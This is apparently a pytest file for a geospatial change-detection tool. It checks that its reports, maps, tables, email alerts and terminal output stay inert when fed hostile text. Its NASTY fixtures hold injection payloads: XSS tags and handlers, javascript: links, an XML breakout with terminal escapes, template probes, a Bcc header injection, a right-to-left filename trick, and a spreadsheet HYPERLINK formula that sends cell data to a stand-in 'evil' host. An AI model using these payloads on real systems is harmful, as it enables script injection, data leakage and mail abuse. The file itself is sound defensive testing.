"""Names and notes of strangers do nothing in any output: they are read, not run."""

import csv
import json
import re
import zipfile
from dataclasses import replace
from html.parser import HTMLParser
from xml.etree import ElementTree as ET

import pyogrio
import pytest
from tests.runs import write_no_plates
from tests.synthetic import make_result
from tests.watch.test_running import SAMPLE

from changedet.batch import Fate, Outcome
from changedet.cli.console import emit, say
from changedet.output.index_page import index_html
from changedet.output.kmz_sites import write_sites_kmz
from changedet.site import Site
from changedet.watch.alerts import append_alerts, feed_xml
from changedet.watch.mail import Letter, Mail, MailServer, _message
from changedet.watch.telling import _subject, _text

HTML = "</title></script><script>alert(1)</script><img src=x onerror=alert(1)>\"' onmouseover='alert(1)"
LINKS = (
    "<a href='javascript:alert(1)'>x</a>[y](javascript:alert(2))<style>*{background:url(//evil/x)}</style>"
)
XML = "]]><Placemark/><!-- &x; \x08\x1b[2J\ufffe"
FORMULA = '=HYPERLINK("http://evil/?"&A1)'
TEMPLATE = "{{7*7}}{% raw %}${7*7}%s%n{0}"
HEADER = "x\r\nBcc: evil@example.org\r\n\r\nbody"
TURNED = "\u202egnp.exe\u2066"
NASTY = {
    "html": HTML, "links": LINKS, "xml": XML, "formula": FORMULA, "template": TEMPLATE, "header": HEADER,
    "turned": TURNED,
}  # fmt: skip


class Page(HTMLParser):
    """What a browser would make of a page: elements that act, attributes that run, addresses, words."""

    def __init__(self, text):
        super().__init__(convert_charrefs=True)
        self.tags, self.acts, self.words, self.inside = {}, [], [], ""
        self.feed(text)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags[tag] = self.tags.get(tag, 0) + 1
        self.inside = tag
        for name, value in attrs:
            if name.startswith("on"):
                self.acts.append(name)
            if name in {"href", "src", "action"} and re.match(
                r"\s*(javascript|data:text|//|https?://evil)", value or ""
            ):
                self.acts.append(value)

    def handle_endtag(self, tag):
        self.inside = ""

    def handle_data(self, data):
        if self.inside not in {"script", "style"}:
            self.words.append(data)


def make_nasty(text):
    """A result in which every text that comes from elsewhere is hostile."""
    result = make_result(f"Pier {text}"[:200])
    scene = replace(result.before.scene, id=f"scene {text}", notes=(text,), time_source=text)
    before, after = (
        replace(result.before, scene=scene),
        replace(result.after, scene=replace(result.after.scene, id=text)),
    )
    objects = result.objects.assign(evidence=text, warnings=text, before_scenes=text, after_scenes=text)
    return replace(
        result,
        before=before,
        after=after,
        objects=objects,
        pair=replace(result.pair, before=before, after=after, reason=text, warnings=(text,)),
        warnings=(text,),
        registration=replace(result.registration, reason=text),
        inputs={"before": {"path": text}, "after": {"path": text}},
    )


@pytest.fixture(scope="module")
def benign(tmp_path_factory):
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr("changedet.output.plate.write_plates", write_no_plates)
        return make_nasty("plain words").save(tmp_path_factory.mktemp("benign") / "run")


@pytest.fixture(params=NASTY, scope="module")
def nasty(request, tmp_path_factory):
    """A text, and a run folder that is full of it."""
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr("changedet.output.plate.write_plates", write_no_plates)
        result = make_nasty(NASTY[request.param])
        return result, NASTY[request.param], result.save(tmp_path_factory.mktemp("nasty") / "run")


def alike(page, other):
    """Two pages have the same elements that act, and none has attributes that run."""
    for tag in ("script", "style", "img", "iframe", "object", "embed", "form", "base", "meta", "link", "a"):
        assert page.tags.get(tag, 0) == other.tags.get(tag, 0), tag
    assert page.acts == other.acts == []


def test_the_parser_of_these_tests_sees_what_acts():
    assert Page("<a onclick=x href='javascript:1'>").acts == ["onclick", "javascript:1"]


def test_reports(nasty, benign):
    page = (nasty[2] / "report.html").read_text(encoding="utf-8")
    alike(Page(page), Page((benign / "report.html").read_text(encoding="utf-8")))
    assert "\x1b" not in page
    assert "\u202e" not in page
    assert "49" not in "".join(re.findall(r"Pier [^<]{0,20}", page))


def test_maps(nasty, benign):
    (name,) = (path.name for path in nasty[2].glob("*.kmz"))
    with zipfile.ZipFile(nasty[2] / name) as archive, zipfile.ZipFile(benign / name) as other:
        assert archive.namelist() == other.namelist()
        tree, plain = (ET.fromstring(one.read("doc.kml")) for one in (archive, other))
    assert [one.tag for one in tree.iter()] == [one.tag for one in plain.iter()]
    for balloon, usual in zip(tree.iter("{*}description"), plain.iter("{*}description"), strict=True):
        alike(Page(balloon.text or ""), Page(usual.text or ""))


def test_tables(nasty):
    with (nasty[2] / "changes.csv").open(newline="", encoding="utf-8-sig") as stream:
        rows = list(csv.reader(stream))
    assert len({len(row) for row in rows}) == 1
    for row in rows:
        for cell in row:
            assert not re.match(r"[=+@\t\r]|-(?![\d.])", cell), cell
    features = json.loads((nasty[2] / "changes.geojson").read_text(encoding="utf-8"))["features"]
    table = pyogrio.read_dataframe(nasty[2] / "changes.gpkg")
    assert len(features) == len(table) == len(rows) - 1
    json.loads((nasty[2] / "run.json").read_text(encoding="utf-8"))


def test_notebooks(nasty):
    result = nasty[0]
    usual = make_nasty("plain words")
    site = Site.at("38.27, 126.5", name=result.name)
    pairs = [
        (result, usual),
        (result.before, usual.before),
        (result.before.scene, usual.before.scene),
        (result.registration, usual.registration),
        (site, replace(site, name="x")),
    ]
    for one, other in pairs:
        alike(Page(one._repr_html_()), Page(other._repr_html_()))
        assert "\x1b" not in repr(one)


def test_pages_of_many_sites(nasty, benign, tmp_path):
    _, text, folder = nasty

    def _outcomes(words, run):
        whole = Outcome(words, Fate.COMPLETE, run.name, candidates=3)
        return [whole, Outcome(words, Fate.FAILED, "x", exit_code=5, reason=words)]

    pages = [
        Page(index_html(run.parent, _outcomes(words, run), name=words))
        for words, run in ((text, folder), ("plain words", benign))
    ]
    alike(*pages)
    names = []
    for words, run in ((text, folder), ("plain words", benign)):
        sites = [Site.at("38.27, 126.5", name=words), Site.at("38.28, 126.5", name=words)]
        path = write_sites_kmz(run.parent, sites, _outcomes(words, run), name=words)
        with zipfile.ZipFile(path) as archive:
            names.append([one.tag for one in ET.fromstring(archive.read("doc.kml")).iter()])
    assert names[0] == names[1]


@pytest.mark.parametrize("text", NASTY.values(), ids=NASTY)
def test_alerts_feeds_and_letters(text, tmp_path):
    alert = replace(SAMPLE, site=text, text=text, evidence=text, kind=text)
    append_alerts(tmp_path / "alerts.jsonl", [alert])
    (line,) = (tmp_path / "alerts.jsonl").read_text(encoding="utf-8").splitlines()
    assert json.loads(line)["site"] == text
    feed, usual = (ET.fromstring(feed_xml([one], "2023-06-01T00:00:00Z")) for one in (alert, SAMPLE))
    assert [one.tag for one in feed.iter()] == [one.tag for one in usual.iter()]
    mail = Mail(MailServer("127.0.0.1", 25), "desk@example.org", ("you@example.org",))
    letter = _message(mail, Letter("you@example.org", "1", _subject([alert]), tuple(_text([alert]))))
    headers = letter.as_string().split("\n\n")[0]
    assert not re.search(r"^bcc:", headers, re.IGNORECASE | re.MULTILINE)
    assert letter.keys() == _message(mail, Letter("you@example.org", "1", "x", ("x",))).keys()


@pytest.mark.parametrize("text", NASTY.values(), ids=NASTY)
def test_terminals(text, capsys):
    say(f"site {text}")
    emit({}, [f"site {text}"], as_json=False)
    emit({"site": text}, [], as_json=True)
    out, err = capsys.readouterr()
    assert err.count("\n") == 1
    for letter in out.replace("\n", "") + err.replace("\n", ""):
        assert letter.isprintable(), repr(letter)
